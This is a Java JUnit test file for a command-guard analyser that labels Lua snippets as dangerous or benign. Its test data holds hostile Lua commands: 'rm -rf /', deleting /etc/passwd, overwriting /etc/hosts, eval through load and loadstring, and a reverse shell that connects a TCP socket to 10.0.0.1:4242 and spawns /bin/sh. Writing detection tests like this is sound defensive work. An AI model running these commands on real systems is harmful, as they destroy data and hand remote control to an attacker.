package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class LuaInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("os.execute(\"rm -rf /\")", "shell:rm -rf /"),
        row("os.execute \"rm -rf /\"", "shell:rm -rf /"),
        row("io.popen(\"id\"):read(\"*a\")", "shell:id"),
        row("local d = '/srv' os.execute('rm -rf ' .. d)", "shell:rm -rf /srv"),
        row("os.remove(\"/etc/passwd\")", "delete:/etc/passwd"),
        row("os.rename('/etc', '/tmp/etc')", "delete-r:/etc", "write:/tmp/etc"),
        row("local f = io.open(\"/etc/hosts\", \"w\") f:write(\"x\")", "write:/etc/hosts"),
        row("load(\"os.execute('id')\")()", "eval:load", "shell:id"),
        row("loadstring(io.read())()", "eval~:loadstring", "opaque"),
        row("_G['os']['execute']('id')", "shell:id"),
        row("_G.os.remove('/etc/hosts')", "delete:/etc/hosts"),
        row(
            "local s=require('socket'):tcp() s:connect('10.0.0.1',4242) os.execute('/bin/sh -i <&3 >&3')",
            "net:socket.tcp.connect",
            "shell:/bin/sh -i <&3 >&3",
            "revshell:socket.tcp.connect"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("print(1+1)"),
        row("-- os.execute('rm -rf /')\nprint('x')"),
        row("--[[ os.execute('rm -rf /') ]] print('y')"),
        row("local s = [[os.execute('rm -rf /')]] print(s)"),
        row("print(os.time())"),
        row("print(os.getenv('HOME'))"),
        row("for i = 1, 3 do print(i) end"),
        row("local t = {a = 1} print(t.a)"),
        row("print(string.format('%d', 42))"),
        row("print(io.open('x.txt', 'r'):read('*a'))"),
        row("print(('x'):rep(3))"),
        row("local t = {} t['k'] = 1 print(t.k)"),
        row("print(_VERSION)"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.LUA, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
